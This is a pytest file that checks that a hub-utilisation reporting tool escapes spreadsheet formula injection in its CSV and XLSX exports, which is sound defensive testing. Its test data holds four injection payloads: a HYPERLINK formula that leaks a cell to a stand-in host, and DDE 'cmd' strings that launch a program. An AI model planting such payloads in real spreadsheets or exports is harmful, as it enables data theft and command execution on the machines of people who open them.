"""Text from outside in report files stays text: hostile registry names in every workbook
sheet and every CSV of the utilisation report that the API and the CLI produce, with
numbers still numbers (the planning report: tests/planning/test_planning_cells.py)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from hubsense.cells import FORMULA_STARTS, csv_text, xlsx_text
from hubsense.registry import load_registry
from hubsense.store.sqlite import SqliteStore
from launch.app import create_app
from launch.cli import main
from tests.analytics.cells_support import assert_csv_safe, assert_workbook_safe
from tests.analytics.support import REGISTRY_TOML
from tests.analytics.test_reports import NOW, fill
from tests.api.api_support import settings as api_settings

pytestmark = pytest.mark.dated

# Formulas a spreadsheet would run, in the forms OWASP lists (=, +, -, @).
HOSTILE_MUNICIPALITY = '=HYPERLINK("http://x.invalid/?leak="&A1,"Berg")'
HOSTILE_HUB = "+cmd|' /C calc'!A0"
HOSTILE_OTHER_HUB = "-2+3+cmd|' /C calc'!A0"
HOSTILE_REGION = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = [HOSTILE_MUNICIPALITY, HOSTILE_HUB, HOSTILE_OTHER_HUB, HOSTILE_REGION]


def _toml(text: str) -> str:
    return "'''" + text + "'''"  # a TOML literal string: no escapes, the text is exact


HOSTILE_REGISTRY = (
    REGISTRY_TOML.replace('name = "Berg"', f"name = {_toml(HOSTILE_MUNICIPALITY)}")
    .replace('name = "Daghubben"', f"name = {_toml(HOSTILE_HUB)}")
    .replace('name = "Dygnethubben"', f"name = {_toml(HOSTILE_OTHER_HUB)}")
    .replace('region = "Testregion"', f"region = {_toml(HOSTILE_REGION)}")
)


# --- the rule ------------------------------------------------------------------------------


@given(st.text())
def test_csv_text_never_starts_a_formula(text: str) -> None:
    out = csv_text(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out in (text, "'" + text)
    assert (out == text) == (not text.startswith(FORMULA_STARTS))


@given(st.text())
def test_xlsx_text_keeps_printable_text(text: str) -> None:
    out = xlsx_text(text)
    assert all(c in "\t\n\r" or ord(c) >= 32 for c in out)
    if all(c in "\t\n\r" or ord(c) >= 32 for c in text):
        assert out == text


# --- the utilisation report ------------------------------------------------------------------


@pytest.fixture
def hostile_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    reg = tmp_path / "registry.toml"
    reg.write_text(HOSTILE_REGISTRY, encoding="utf-8")
    db = tmp_path / "cli.sqlite3"
    store = SqliteStore(db)
    store.open()
    fill(store)
    store.close()
    monkeypatch.setenv("HUBSENSE_REGISTRY", str(reg))
    monkeypatch.setenv("HUBSENSE_SQLITE_PATH", str(db))
    monkeypatch.setenv("HUBSENSE_STORE", "sqlite")
    yield tmp_path


PERIOD = ["--from", "2026-11-02", "--to", "2026-11-16"]


def test_utilisation_report_files_keep_hostile_names_as_text(
    hostile_env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    registry = load_registry(hostile_env / "registry.toml")
    store = SqliteStore(hostile_env / "cli.sqlite3")
    store.open()
    try:
        app = create_app(api_settings(), registry, store, clock=lambda: NOW)
        with TestClient(app) as client:
            for municipality in ("berg", None):  # the municipality and the whole region
                for lang in ("sv", "en"):
                    params = {"from": "2026-11-02", "to": "2026-11-16", "lang": lang}
                    if municipality:
                        params["municipality"] = municipality
                    for fmt, check in (("xlsx", assert_workbook_safe), ("csv", assert_csv_safe)):
                        r = client.get("/api/reports/download", params={**params, "format": fmt})
                        assert r.status_code == 200, r.text
                        hostile = HOSTILE if municipality is None else HOSTILE[:3]
                        check(r.content, hostile)
    finally:
        store.close()
    cli = ["--log-level", "WARNING", "report", *PERIOD]
    for scope in (["--municipality", "berg"], []):
        hostile = HOSTILE[:3] if scope else HOSTILE
        out = hostile_env / "r.xlsx"
        assert main([*cli, *scope, "--format", "xlsx", "--out", str(out)], clock=lambda: NOW) == 0
        assert_workbook_safe(out.read_bytes(), hostile)
        out = hostile_env / "r.csv"
        assert main([*cli, *scope, "--format", "csv", "--out", str(out)], clock=lambda: NOW) == 0
        assert_csv_safe(out.read_bytes(), hostile)
    capsys.readouterr()


def test_registry_names_must_be_one_line() -> None:
    """A line break in a name would split a memo sentence across CSV rows: refused with
    where it is and what it was."""
    from hubsense.registry import RegistryError, parse_registry

    broken = REGISTRY_TOML.replace('name = "Daghubben"', 'name = "Dag\\nhubben"')
    with pytest.raises(RegistryError) as info:
        parse_registry(broken, "reg.toml")
    assert "hubs[0].name" in str(info.value)
    assert "must be one line of printable text; contains '\\\\n'" in str(info.value)
